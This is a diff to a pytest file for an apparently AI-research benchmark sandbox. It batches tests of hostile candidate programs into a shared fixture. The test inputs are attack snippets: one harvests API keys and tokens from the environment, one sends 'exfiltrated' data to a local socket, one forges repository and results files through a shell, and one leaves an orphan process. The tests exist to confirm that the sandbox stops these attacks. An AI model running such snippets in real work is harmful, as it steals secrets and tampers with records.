@@ -2,18 +2,24 @@
 
 Each hostile candidate wraps the honest tiny candidate's train() with one attack. Attacks that need
 Linux namespaces (network, PID) are skipped where the machine has none; the rest hold everywhere.
+The candidates whose runs must still succeed share one batch of runs, two at a time.
 """
 import os
+import select
 import socket
 import subprocess
-import threading
 import time
-from dataclasses import replace
+from dataclasses import dataclass, replace
+from pathlib import Path
+from typing import Iterator
 
 import pytest
 
 from autoresearch_bench import sandbox
+from autoresearch_bench.executor import Run, make_executor
 from autoresearch_bench.runner import Candidate, run_candidate
+from autoresearch_bench.storage import RunRecord
+from autoresearch_bench.task import load_task
 
 needs_namespaces = pytest.mark.skipif(sandbox.namespaces_available() is None,
                                       reason="Linux namespaces are not available on this machine")
@@ -35,14 +41,69 @@ def run(task, candidate, isolation="auto", **kw):
                          log=lambda m: None, **kw)
 
 
-def test_api_keys_do_not_reach_the_candidate(tiny_task, tiny_task_dir, monkeypatch):
-    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
-    monkeypatch.setenv("HF_TOKEN", "hf-secret")
-    attack = """
+STEALS_KEYS = """
 leaked = {k: v for k, v in os.environ.items() if "secret" in v or k.endswith(("_KEY", "_TOKEN", "_SECRET"))}
 if leaked:
     raise RuntimeError(f"stole {leaked}")"""
-    record = run(tiny_task, hostile(tiny_task_dir, "steals_keys", attack), isolation="off")
+PHONES_HOME = """
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
+except OSError:
+    pass"""
+WRITES_REPO = """
+for path in ({paths}):
+    subprocess.run(["sh", "-c", f"echo forged >> {{path}}"])"""  # a shell escapes the audit hook
+
+
+def orphan_marker(isolation: str) -> str:
+    return f"{os.getpid()}{len(isolation)}.4242"
+
+
+def leaves_orphan(isolation: str) -> str:
+    escape = isolation == "auto"  # in a PID namespace even a setsid() escapee dies with the run
+    return f'subprocess.Popen(["sleep", "{orphan_marker(isolation)}"], start_new_session={escape})'
+
+
+@dataclass
+class Survived:
+    """Runs of hostile candidates whose attacks must fail while the runs themselves succeed."""
+    records: dict[str, RunRecord]
+    listener: socket.socket  # the port on localhost that phones_home tried to reach
+    results: Path  # the results file, and task_dir/task.toml: what writes_repo tried to forge
+    task_dir: Path
+
+
+@pytest.fixture(scope="module")
+def survived(shared_tiny_task_dir: Path) -> Iterator[Survived]:
+    """One run of each such candidate, two runs at a time, with API keys in the harness's
+    environment; the attacks that need namespaces only where the machine has them."""
+    task_dir = shared_tiny_task_dir
+    task = load_task(task_dir)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    results = task_dir.parent.parent / "results.tsv"
+    results.write_text("commit\n")
+    attacks = {"steals_keys": ("off", STEALS_KEYS), "leaves_orphan_off": ("off", leaves_orphan("off"))}
+    if sandbox.namespaces_available() is not None:
+        writes = WRITES_REPO.format(paths=f"{str(task_dir / 'task.toml')!r}, {str(results)!r}")
+        attacks.update(phones_home=("auto", PHONES_HOME.format(port=listener.getsockname()[1])),
+                       writes_repo=("auto", writes), leaves_orphan_auto=("auto", leaves_orphan("auto")))
+    profile = replace(task.profile("cpu"), startup_allowance_s=8)
+    runs = [Run(task, profile, hostile(task_dir, name, attack), 0,
+                dict(budget_s=1, isolation=isolation, results_paths=(results,) if name == "writes_repo" else ()))
+            for name, (isolation, attack) in attacks.items()]
+    with pytest.MonkeyPatch.context() as env:
+        env.setenv("OPENAI_API_KEY", "sk-secret")
+        env.setenv("HF_TOKEN", "hf-secret")
+        records = make_executor("local", slots=2).map(runs, log=lambda m: None)
+    time.sleep(0.5)  # killed processes take a moment to go
+    yield Survived({run.candidate.name: r for run, r in zip(runs, records)}, listener, results, task_dir)
+    listener.close()
+
+
+def test_api_keys_do_not_reach_the_candidate(survived):
+    record = survived.records["steals_keys"]
     assert record.status == "ok", record.error
 
 
@@ -54,54 +115,24 @@ def test_the_parents_environment_is_closed(tiny_task, tiny_task_dir, monkeypatch
 
 
 @needs_namespaces
-def test_no_network_even_to_localhost(tiny_task, tiny_task_dir):
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen()
-    server.settimeout(5)
-    port = server.getsockname()[1]
-    accepted = []
-    threading.Thread(target=lambda: accepted.append(_accept(server)), daemon=True).start()
-    attack = f"""
-try:
-    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
-except OSError:
-    pass"""
-    record = run(tiny_task, hostile(tiny_task_dir, "phones_home", attack))
-    time.sleep(0.5)
-    server.close()
+def test_no_network_even_to_localhost(survived):
+    record = survived.records["phones_home"]
     assert record.status == "ok" and record.extra["sandbox"] == "namespaces", record.error
-    assert accepted in ([], [None])
-
-
-def _accept(server):
-    try:
-        return server.accept()[0].recv(100)
-    except OSError:
-        return None
+    assert select.select([survived.listener], [], [], 0)[0] == []  # no connection waits to be accepted
 
 
 @needs_namespaces
-def test_repo_and_results_are_read_only(tiny_task, tiny_task_dir):
-    results = tiny_task_dir.parent.parent / "results.tsv"
-    results.write_text("commit\n")
-    attack = f"""
-for path in ({str(tiny_task_dir / 'task.toml')!r}, {str(results)!r}):
-    subprocess.run(["sh", "-c", f"echo forged >> {{path}}"])"""  # a shell escapes the audit hook
-    record = run(tiny_task, hostile(tiny_task_dir, "writes_repo", attack), results_paths=(results,))
-    assert results.read_text() == "commit\n"
-    assert "forged" not in (tiny_task_dir / "task.toml").read_text()
+def test_repo_and_results_are_read_only(survived):
+    assert survived.results.read_text() == "commit\n"
+    assert "forged" not in (survived.task_dir / "task.toml").read_text()
+    record = survived.records["writes_repo"]
     assert record.status == "ok", record.error
 
 
 @pytest.mark.parametrize("isolation", ["off", pytest.param("auto", marks=needs_namespaces)])
-def test_no_process_outlives_its_run(tiny_task, tiny_task_dir, isolation):
-    marker = f"{os.getpid()}{len(isolation)}.4242"
-    escape = isolation == "auto"  # in a PID namespace even a setsid() escapee dies with the run
-    attack = f'subprocess.Popen(["sleep", "{marker}"], start_new_session={escape})'
-    record = run(tiny_task, hostile(tiny_task_dir, "leaves_orphan", attack), isolation=isolation)
-    time.sleep(0.5)
-    alive = subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True).stdout
+def test_no_process_outlives_its_run(survived, isolation):
+    record = survived.records[f"leaves_orphan_{isolation}"]
+    alive = subprocess.run(["pgrep", "-f", f"sleep {orphan_marker(isolation)}"], capture_output=True, text=True).stdout
     assert record.status == "ok" and alive == "", (record.error, alive)
 
 
